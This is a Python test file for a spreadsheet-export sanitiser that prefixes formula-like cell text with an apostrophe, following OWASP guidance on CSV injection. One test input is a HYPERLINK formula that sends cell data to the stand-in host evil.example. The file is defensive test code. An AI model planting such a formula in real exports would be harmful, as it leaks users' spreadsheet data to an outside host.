"""CSV/Excel cells: formula-like text is neutralised, numbers stay numbers (OWASP)."""

from __future__ import annotations

import datetime as dt
from decimal import Decimal

import pytest

from haken.platform.exports import neutralise_cell, neutralise_row


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"x")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"x")',
        ),
        ("+81 3-1234-5678", "'+81 3-1234-5678"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
    ],
)
def test_formula_like_text_gets_a_leading_apostrophe(value: str, written: str) -> None:
    assert neutralise_cell(value) == written


@pytest.mark.parametrize(
    "value", ["山田 太郎", "株式会社=テスト", "a-b", "user@example.com", "", " =1", "'already"]
)
def test_other_text_is_unchanged(value: str) -> None:
    assert neutralise_cell(value) == value


@pytest.mark.parametrize(
    "value", [-1500, 0, 3.5, -0.25, Decimal("-1450.00"), None, True, dt.date(2026, 1, 5)]
)
def test_non_text_cells_keep_their_type_and_value(value: object) -> None:
    written = neutralise_cell(value)
    assert written is value


def test_a_row_is_neutralised_cell_by_cell() -> None:
    assert neutralise_row(["=1", -5, "名前", "@x", None]) == ["'=1", -5, "名前", "'@x", None]
